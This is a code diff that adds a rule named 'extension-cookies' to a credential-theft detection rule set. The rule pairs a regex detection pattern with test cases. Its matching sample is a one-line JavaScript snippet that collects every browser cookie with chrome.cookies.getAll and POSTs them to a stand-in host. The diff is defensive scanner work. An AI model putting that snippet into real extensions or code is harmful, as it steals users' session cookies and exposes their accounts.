@@ -471,6 +471,26 @@ export const credentialTheft: RuleSet = {
       misses: [js('const token = parse(document.cookie).csrf\nfetch("/api", { headers: { token } })')],
     },
     {
+      id: id('extension-cookies'),
+      severity: 'high',
+      why: "A browser extension takes all cookies, or other tabs' forms, and sends them away.",
+      when: near(
+        8,
+        is(['cookies.getall('], /(?:chrome|browser)\.cookies\.getAll\(\s{0,4}(?:\{\s{0,4}\}|\{\s{0,4}domain)/, {
+          before: 8,
+          families: ['js', 'html'],
+        }),
+        is(['fetch(', 'xmlhttprequest', 'sendbeacon', 'axios'], null),
+        is(['json.stringify', 'post'], null),
+      ),
+      matches: [
+        js(
+          "chrome.cookies.getAll({}, (c) => fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(c) }))",
+        ),
+      ],
+      misses: [js('chrome.cookies.getAll({ url }, (c) => render(c))')],
+    },
+    {
       id: id('card-skimmer'),
       severity: 'high',
       why: 'Collects card numbers from a form and sends them to another host in an encoded form.',
